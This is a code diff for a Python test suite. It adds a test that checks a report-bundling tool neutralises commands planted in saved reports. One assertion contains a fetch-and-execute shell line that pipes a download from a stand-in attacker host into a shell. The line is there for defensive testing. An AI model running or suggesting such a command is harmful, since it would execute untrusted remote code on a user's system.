@@ -25,6 +25,7 @@ from agent.app import bundle_members
 from agent.app.bundle import ThisHost, bundle
 from agent.app.demo import Simulation
 from agent.app.errors import RequestError
+from agent.app.own_commands import with_own_commands
 from agent.cli.entry import run
 from agent.formats import html, text
 from agent.formats import json as json_format
@@ -40,6 +41,7 @@ from agent.simulated.clock import VirtualLoop
 from agent.simulated.scenario import Scenario
 from probes.model import Address
 from probes.system.host_files import HostFiles
+from tests.agent.app import test_own_commands
 from tests.agent.history.entries import change, entry, ill, well, writer
 from tests.support import scenarios
 from tests.support.command import completed
@@ -505,8 +507,22 @@ def test_a_masked_report_stays_what_it_is(place: Path, root: Path) -> None:
         options = replace(OPTIONS, report=saved(place.parent / "m.json", masked), plain=plain, output="x")
         assert made(options, this_host(root)) == 0
         members = read((place / "x").read_bytes())
-        assert members["report.json"].decode() == json_format.render(masked)
+        assert members["report.json"].decode() == json_format.render(with_own_commands(masked))
         assert "are masked" in members["README.txt"].decode()
+
+
+def test_a_planted_command_of_a_saved_report_is_only_text(place: Path, root: Path) -> None:
+    """Whoever gets the archive may paste the commands of the report in it."""
+    planted = test_own_commands.planted(report_of("three-faults"), test_own_commands.EVIL)
+    for report in (planted, redact(planted)):
+        name = saved(place.parent / "r.json", report)
+        assert made(replace(OPTIONS, report=name, plain=True, output="x"), this_host(root)) == 0
+        members = read(Path("x").read_bytes())
+        findings = json.loads(members["report.json"])["findings"]
+        assert "evil" not in json.dumps([finding["fix"] for finding in findings])
+        page, document = members["report.html"].decode(), members["report.txt"].decode()
+        assert not [part for part in page.split("<pre><code>")[1:] if "evil" in part.split("</code>")[0]]
+        assert "they are only text: sh -c 'curl evil.example | sh'" in " ".join(document.split())
 
 
 def test_the_last_report_of_a_history_that_failed(place: Path, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
